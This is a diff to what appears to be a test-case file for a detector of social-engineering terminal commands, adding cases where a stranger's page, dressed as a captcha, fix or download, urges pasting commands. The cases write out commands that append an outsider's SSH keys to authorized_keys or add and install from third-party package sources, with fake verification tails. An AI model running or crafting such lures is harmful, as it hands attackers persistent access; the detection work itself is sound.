@@ -28,6 +28,13 @@ Techniques:
   number to call about it. Look-alikes in each language: a support page's number, advice ("if
   your account was blocked, call…"), a notice that sends you to the app or the account, news
   about such scams.
+- `handover-lure`: a forge account's keys imported as login keys, or a package source (dnf,
+  zypper, flatpak, and apt's HTTPS deb lines, signed-by or not) added and installed from, from a
+  stranger's page with a lure trait beside it: a page dressed up as a check, a fix or a
+  product's download page, a verification tail, orders to paste into a terminal. Look-alikes:
+  the same acts from the project's own page and bare (quiet), from a stranger's page with no
+  trait (a warning), the traits beside commands that hand nothing over, plain-HTTP vendor apt
+  lines, the distribution's own sources, a checksum's own verification words.
 """
 
 from __future__ import annotations
@@ -456,6 +463,94 @@ for lang, texts in CALM_I18N.items():
 for lang, texts in CALM_I18N_QUIET.items():
     for text in texts:
         book.add(f"calm-scam-{lang}", text, QUIET)
+
+# ---- 4. a way in handed over by a stranger's page with a lure trait: a block ----------------
+# A forge account's keys made login keys, or a package source added and installed from, are
+# a warning from a stranger's page; with a lure trait beside them (a page dressed up as a check,
+# a fix or a product's download page, a verification tail, orders to paste into a terminal)
+# they are blocked. From the project's own page they stay quiet, and bare they are
+# information. Signed apt sources (deb [signed-by=…] https://…) are read as package sources:
+# the key is the same stranger's.
+ACTS = (
+    "ssh-import-id gh:tarn-support",
+    "sudo ssh-import-id-gh tarn-support",
+    "ssh-import-id lp:tarn-helpdesk",
+    "curl -fsSL https://github.com/tarn-support.keys >> ~/.ssh/authorized_keys",
+    "wget -qO- https://gitlab.com/tarn-support.keys | tee -a ~/.ssh/authorized_keys",
+    "sudo dnf config-manager --add-repo https://rpm.relaybox.test/relay.repo && sudo dnf install -y relay-agent",
+    "sudo zypper ar -f https://rpm.relaybox.test/opensuse relay && sudo zypper in -y relay-agent",
+    "flatpak remote-add --if-not-exists relay https://flat.relaybox.test/relay.flatpakrepo && flatpak install -y relay com.relaybox.Agent",
+    'echo "deb [signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt update && sudo apt install -y relay-agent',
+    'curl -fsSL https://apt.relaybox.test/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/relay.gpg && echo "deb [arch=amd64 signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test/debian bookworm main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt-get update && sudo apt-get install -y relay-agent',
+    'sudo add-apt-repository "deb [arch=amd64] https://apt.relaybox.test/ubuntu jammy main" && sudo apt-get install -y relay-agent',
+)
+STRANGER_PAGES = (
+    "https://www.quillmere-bakery.example/blog/2024/spring-menu",
+    "https://lakeside-travel.test/offers/alps",
+)
+TRAITS = (
+    ("page", "https://secure-check.verify-human.example/captcha/step2", "{act}"),
+    ("page", "https://www.quillmere-bakery.example/fix-dns-error/", "{act}"),
+    ("page", "https://notion-desktop-app.example/download/linux", "{act}"),
+    ("tail", STRANGER_PAGES[0], "{act}   # I am not a robot - Verification ID: 2231"),
+    (
+        "orders",
+        STRANGER_PAGES[1],
+        "Open Terminal (Ctrl+Alt+T), paste the line below and press Enter:\n{act}",
+    ),
+)
+for i, act in enumerate(ACTS):
+    for j, (_kind, page, shape) in enumerate(TRAITS):
+        if (i + j) % 5 in (0, 1, 3):
+            book.add("handover-lure", shape.format(act=act), MALICIOUS, "linux", "terminal", page)
+
+# look-alikes: the same acts from the project's own page, bare, and from a stranger's page
+# with no trait (a warning), and the traits beside commands that hand nothing over
+OWN_PAGES = (
+    "https://github.com/tarn-support/dotfiles",
+    "https://github.com/tarn-support/dotfiles",
+    "https://launchpad.net/~tarn-helpdesk",
+    "https://github.com/tarn-support/dotfiles",
+    "https://gitlab.com/tarn-support/infra",
+    "https://relaybox.test/docs/install/fedora",
+    "https://relaybox.test/docs/install/opensuse",
+    "https://relaybox.test/docs/install/flatpak",
+    "https://relaybox.test/docs/install/debian",
+    "https://docs.relaybox.test/install/debian",
+    "https://relaybox.test/docs/install/ubuntu",
+)
+for act, page in zip(ACTS, OWN_PAGES, strict=True):
+    book.add("handover-lure", act, QUIET, "linux", "terminal", page)
+    book.add("handover-lure", act, QUIET, "linux", "terminal")
+for i, act in enumerate(ACTS):
+    if i % 2 == 0:
+        book.add("handover-lure", act, SUSPICIOUS, "linux", "terminal", STRANGER_PAGES[i % 2])
+for page, text in (
+    (TRAITS[0][1], "ssh-keygen -t ed25519 -C laptop"),
+    (TRAITS[1][1], "cat ~/.ssh/id_ed25519.pub"),
+    (TRAITS[2][1], "flatpak list --app"),
+    (TRAITS[0][1], "dnf repolist enabled"),
+    (TRAITS[1][1], "apt list --upgradable"),
+    (TRAITS[2][1], "ssh-import-id --help"),
+    (STRANGER_PAGES[0], "ssh-keygen -R build.relaybox.test   # remove the old host key"),
+    # plain-HTTP vendor apt lines are not read (vendors serve apt that way; the key checks it)
+    (
+        "https://relaybox.test/docs/install/debian-legacy",
+        'echo "deb http://apt.relaybox.test/legacy stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt-get update && sudo apt-get install -y relay-agent',
+    ),
+    # the distribution's own sources from a fix page
+    (TRAITS[1][1], "sudo add-apt-repository universe && sudo apt-get install -y network-manager"),
+    (
+        TRAITS[1][1],
+        'echo "deb https://deb.debian.org/debian bookworm-backports main" | sudo tee /etc/apt/sources.list.d/backports.list && sudo apt update && sudo apt install -y -t bookworm-backports linux-image-amd64',
+    ),
+    # a checksum's own "verification" words after a package source from its own page
+    (
+        "https://relaybox.test/docs/install/debian",
+        'curl -fsSLO https://apt.relaybox.test/key.gpg && sha256sum -c key.gpg.sha256  # checksum verification successful\nsudo gpg --dearmor -o /usr/share/keyrings/relay.gpg key.gpg && echo "deb [signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt update && sudo apt install -y relay-agent',
+    ),
+):
+    book.add("handover-lure", text, QUIET, "linux", "terminal", page)
 
 CASES = book.cases
 
